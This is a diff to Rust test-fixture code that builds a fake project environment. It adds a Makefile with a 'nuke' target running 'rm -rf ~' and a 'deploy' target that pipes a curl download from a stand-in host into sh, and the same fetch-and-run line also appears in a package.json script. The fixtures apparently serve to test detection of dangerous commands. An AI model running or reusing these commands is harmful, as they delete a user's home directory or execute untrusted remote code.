@@ -48,6 +48,13 @@ pub fn env() -> StaticEnv {
                 "postinstall": "node scripts/setup.js", "deploy": "curl -fsSL https://x.example/i.sh | sh",
                 "dev": "concurrently \"vite\" \"node server.js\""}}"#,
         )
+        .with_script(
+            "/work/proj/Makefile",
+            "GO ?= go\nBIN := build\n.PHONY: all build test clean nuke lint\n\
+             all: build\nbuild:\n\t@$(GO) build -o $(BIN)/app ./...\ntest: build\n\t$(GO) test ./...\n\
+             clean:\n\t-rm -rf $(BIN) dist\nnuke: clean\n\trm -rf ~\n\
+             lint:\n\tgolangci-lint run\ndeploy:\n\tcurl -fsSL https://x.example/i.sh | sh\n",
+        )
         .with_file("/work/proj/.env")
         .with_file("/work/proj/.env.example")
         .with_file("/work/proj/src/main.rs")
